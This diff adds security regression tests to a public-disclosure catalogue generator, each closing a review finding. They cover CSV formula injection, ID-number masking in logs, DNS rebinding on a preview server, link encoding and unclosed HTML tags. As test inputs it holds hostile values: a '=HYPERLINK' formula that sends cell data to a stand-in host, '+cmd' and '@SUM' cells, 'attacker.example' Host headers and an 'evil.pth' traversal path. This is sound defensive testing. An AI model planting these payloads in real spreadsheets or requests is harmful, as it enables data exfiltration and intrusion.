@@ -3,10 +3,14 @@ is named after the finding it closes, and fails on the code the review attacked.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import hashlib
 import hmac
+import http.client
 import importlib.metadata
+import io
+import json
 import os
 import pickle
 import re
@@ -16,12 +20,15 @@ import stat
 import subprocess
 import sys
 import zipfile
+from html import unescape
 from pathlib import Path
+from urllib.parse import unquote, urljoin, urlsplit
 
 import pytest
 import yaml
 from click.testing import CliRunner
 from conftest import BUILD_DAY, ORG, REPO, Repo, copy_sample, line_of
+from officefiles import write_pdf
 from sitetext import files_of
 
 from generator.build import BuildContext, BuildRefused, build_catalogue
@@ -46,6 +53,7 @@ from generator.source.items import content_files
 VENV_ITEM = "content/external/budget/.venv/lib/python3.11/site-packages/2026-notes.md"
 CLIMB_BACK_IN = "../../../../.venv/lib/python3.11/site-packages/evil.pth"
 RULE = "content/external/rules/2026-budget-performance.md"
+REL = "content/external/budget/2024-q2.md"
 
 
 def _planted(repo: Repo, item: str, attachment: str, payload: str) -> Path:
@@ -427,6 +435,7 @@ PATHOLOGICAL = {
     "unclosed-emphasis": "**a " * LONG + "\n",
     "unclosed-code-spans": "`a " * LONG + "\n",
     "unclosed-html": "<div>" * (LONG // 2) + "\n",
+    "unclosed-raw-text": "<style>a" * (LONG // 2) + "\n</style>\n",
     "unclosed-comments": "<!-- a\n" * (LONG // 4),
     "nested-lists": "".join("    " * i + "- 第一项\n" for i in range(DEEP)),
     "nested-numbered-lists": "".join("    " * i + "1. 第一项\n" for i in range(DEEP)),
@@ -777,3 +786,208 @@ def test_validation_hangs_or_crashes_on_pathological_input_limits_are_generous(
     (repo.root / "content/external/budget/files/q2.csv").write_text("a,b\n", encoding="utf-8")
     result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
     assert "F009" not in result.output and "F010" not in result.output, result.output
+
+
+# ---------------------------------------------------------------- finding 8
+def test_catalogue_csv_neutralises_formulas(repo: Repo) -> None:
+    """A title such as ``=HYPERLINK(…)`` was written raw: Excel ran it as a formula.
+    Every text cell that starts like one gets a leading ``'`` (OWASP), and only those."""
+    formulas = {
+        "title": '=HYPERLINK("https://example.invalid/?"&A1,"详情")',
+        "summary": "@SUM(1+1)",
+        "doc_no": "-2+3",
+        "keywords": ["+cmd", "预算"],
+    }
+    quoted = {
+        k: [f"'{w}'" for w in v] if isinstance(v, list) else f"'{v}'" for k, v in formulas.items()
+    }
+    repo.add_item(**quoted)  # YAML single quotes: "@" cannot start a plain value
+    build_catalogue(BuildContext(repo.root, repo.root / "build", BUILD_DAY))
+    raw = (repo.root / "build/public/catalogue.csv").read_bytes().decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(raw)))
+    cells = dict(zip(header, row, strict=True))
+    neutral = [cell for cell in row if cell.startswith("'")]
+    assert "'" + formulas["title"] in neutral
+    assert "'" + formulas["summary"] in neutral
+    assert "'" + formulas["doc_no"] in neutral
+    assert "'+cmd；预算" in neutral
+    assert len(neutral) == 4  # the others (index number, dates, URL) are untouched
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.values())
+
+
+@pytest.mark.parametrize("number", ["２０２４-０００１２", "2024-０００１２", "٢٠٢٤-00012"])
+def test_index_numbers_are_ascii_digits_only(repo: Repo, number: str) -> None:
+    """``２０２５-０００３１`` (full-width) was accepted beside ``2025-00031``."""
+    path = repo.write_item(index_no=f"{ORG}/{number}")
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    assert f"2024-q2.md:{line_of(path, 'index_no:')}: I301" in result.output
+
+
+ID = "11010519491231002X"  # GB 11643's own example
+
+
+@pytest.mark.parametrize(
+    ("code", "field", "value"),
+    [
+        ("I301", "index_no", ID),
+        ("S104", "published", ID),
+        ("S101", f"身份证{ID}", "x"),
+        ("I301", "index_no", "13812345678"),
+    ],
+)
+def test_problem_messages_mask_personal_numbers(
+    repo: Repo, code: str, field: str, value: str
+) -> None:
+    """S101/S104/S107/I301 quote what staff wrote: an ID number typed into a field was
+    printed whole in CI logs. It is masked as the confidentiality messages mask it."""
+    path = repo.write_item(**{field: value})
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    line = next(x for x in result.output.splitlines() if f": {code} " in x)
+    assert line.startswith(f"content/external/budget/2024-q2.md:{line_of(path, field)}: ")
+    secret = ID[:17] if ID in field + value else value
+    assert secret not in result.output
+    assert "****" in line
+
+
+def _annual(repo: Repo, out: Path) -> dict[str, bytes]:
+    build_catalogue(BuildContext(repo.root, out, BUILD_DAY))
+    return {p.name: p.read_bytes() for p in (out / "public/reports").iterdir()}
+
+
+def test_the_annual_report_shows_only_what_the_public_site_shows(
+    repo: Repo, tmp_path: Path
+) -> None:
+    """An internal item dated 2022 made a public ``reports/annual-2022.html``, and items
+    scheduled for later days were counted: the report uses what the public site shows."""
+    common = {"written": "2026-03-01", "category": "budget"}
+    repo.add_item("content/external/budget/2026-a.md", index_no=f"{ORG}/2026-00001",
+                  published="2026-03-02", **common)  # fmt: skip
+    before = _annual(repo, tmp_path / "before")
+    assert "annual-2026.html" in before
+    internal = repo.write_item(
+        "content/internal/staff-affairs/2022-roster.md",
+        index_no=f"{ORG}/2022-00001",
+        category="staff-affairs",
+        owner="personnel",
+        drafted_by="胡斌",
+        written="2022-03-01",
+        published="2022-03-05",
+    )
+    repo.approve(internal, steps=(("initial", "曹静"), ("leader", "郑国平")))
+    for rel, number, day in [
+        ("content/external/budget/2026-later.md", "2026-00002", "2026-12-20"),
+        ("content/external/budget/2027-later.md", "2027-00001", "2027-01-05"),
+    ]:
+        repo.add_item(rel, index_no=f"{ORG}/{number}", published=day,
+                      changes=[{"date": day, "note": "更正"}], **common)  # fmt: skip
+    assert not [p for p in repo.load().problems if p.is_error]
+    after = _annual(repo, tmp_path / "after")
+    assert after == before  # no 2022, no 2027, and 2026 counts the same
+    intranet = tmp_path / "after/intranet"
+    assert b"2022" in b"".join(p.read_bytes() for p in intranet.rglob("*.html"))
+
+
+@pytest.mark.parametrize(
+    ("host", "allowed"),
+    [
+        ("127.0.0.1:{port}", True),
+        ("localhost:{port}", True),
+        ("[::1]:{port}", True),
+        ("attacker.example:{port}", False),  # a name rebound to 127.0.0.1
+        ("127.0.0.1.attacker.example:{port}", False),
+        ("localhost:{port}.attacker.example", False),
+        ("localhost:1{port}", False),
+        ("", False),
+    ],
+)
+def test_catalogue_serve_answers_only_loopback_names(repo: Repo, host: str, allowed: bool) -> None:
+    """DNS rebinding: a page of another site, its name pointed at 127.0.0.1, could read
+    drafts and ``/__catalogue__/status`` (which names the catalogue's paths). Only the
+    names of this machine are answered; any other ``Host`` gets 403 and nothing else."""
+    from generator.authoring.serve import PreviewServer
+
+    repo.add_item()
+    preview = PreviewServer(repo.root, port=0, today=BUILD_DAY, echo=lambda _: None)
+    preview.start()
+    try:
+        port = preview.http.server_address[1]
+        for path in ("/", "/__catalogue__/status", "/items/"):
+            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
+            try:
+                connection.request("GET", path, headers={"Host": host.format(port=port)})
+                response = connection.getresponse()
+                body = response.read()
+            finally:
+                connection.close()
+            assert (response.status != 403) is allowed, (path, response.status)
+            if not allowed:
+                assert str(repo.root).encode() not in body and b"content/" not in body
+    finally:
+        preview.stop()
+
+
+@pytest.mark.parametrize("name", ["报告#1.pdf", "a b%20c?.pdf", "100%.pdf"])
+def test_attachment_links_are_percent_encoded(repo: Repo, name: str) -> None:
+    """``files/报告#1.pdf`` was linked raw: the browser asked for ``files/报告`` and took
+    the rest as a fragment. Every attachment link, in the public site, the kiosk and
+    catalogue.json, leads to the file, whose name on disk is unchanged."""
+    folder = repo.root / "content/external/budget/files"
+    folder.mkdir(parents=True)
+    write_pdf(folder / name, [["基本支出", "100"]])  # the kiosk links PDFs only
+    repo.add_item(attachments=[{"path": f"files/{name}", "title": "附表"}])
+    out = repo.root / "build"
+    build_catalogue(BuildContext(repo.root, out, BUILD_DAY))
+    hrefs = []
+    for output in ("public", "kiosk"):
+        (page,) = (out / output / "items").glob("*.html")
+        html = page.read_text(encoding="utf-8")
+        links = re.findall(r'<a (?:class="kiosk-open" )?href="([^"]*files/[^"]*)"', html)
+        assert links
+        hrefs += [(output, page, link) for link in links]
+        assert (page.parent / page.stem / "files" / name).is_file()  # on disk as named
+    record = json.loads((out / "public/catalogue.json").read_text(encoding="utf-8"))
+    (attachment,) = record["items"][0]["attachments"]
+    for output, page, href in hrefs:
+        parts = urlsplit(urljoin(page.relative_to(out / output).as_posix(), unescape(href)))
+        assert not parts.query and not parts.fragment, href
+        assert (out / output / unquote(parts.path)).is_file(), href
+    parts = urlsplit(attachment["url"])
+    assert not parts.query and not parts.fragment
+    assert unquote(parts.path).endswith(f"/files/{name}")
+
+
+def test_a_symlinked_content_folder_is_reported(repo: Repo, tmp_path: Path) -> None:
+    """A symlinked folder under content/ was skipped silently: its items were neither
+    checked nor published, and nobody was told. It is a warning naming the folder."""
+    repo.add_item()
+    elsewhere = tmp_path / "elsewhere"
+    Repo(elsewhere, fresh=False).write_item("budget/2024-q3.md")
+    (repo.root / "content/external/linked").symlink_to(elsewhere / "budget")
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    assert result.exit_code == 0, result.output
+    assert "content/external/linked:1: F011" in result.output
+    assert "2024-q3" not in result.output  # not entered
+    catalogue = load_catalogue(repo.root)
+    assert [p.code for p in catalogue.problems if p.path == "content/external/linked"] == ["F011"]
+
+
+@pytest.mark.parametrize("tag", ["style", "textarea", "STYLE", "title"])
+def test_an_unclosed_style_or_textarea_is_reported_at_its_line(repo: Repo, tag: str) -> None:
+    """An unclosed ``<style>`` or ``<textarea>`` swallowed the rest of the body, which
+    silently vanished from the page: a warning at its line. Closed ones, and ones in
+    fenced code, are not reported."""
+    body = (
+        f"## 说明\n\n```html\n<{tag}>示例\n```\n\n<{tag}>p{{}}</{tag}>\n\n"
+        f"第一段。\n\n<{tag} class=x>\n\n第二段，从此不显示。\n"
+    )
+    path = repo.add_item(body=body)
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    assert result.exit_code == 0, result.output
+    warned = [x for x in result.output.splitlines() if " F012 " in x]
+    assert warned == [
+        x for x in warned if x.startswith(f"{REL}:{line_of(path, f'<{tag} class=x>')}: ")
+    ]
+    assert len(warned) == 1 and f"<{tag.lower()}>" in warned[0]
+    repo.write_item(body=body.replace(f"<{tag} class=x>", f"<{tag}>x</{tag}>"))
+    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
+    assert " F012 " not in result.output
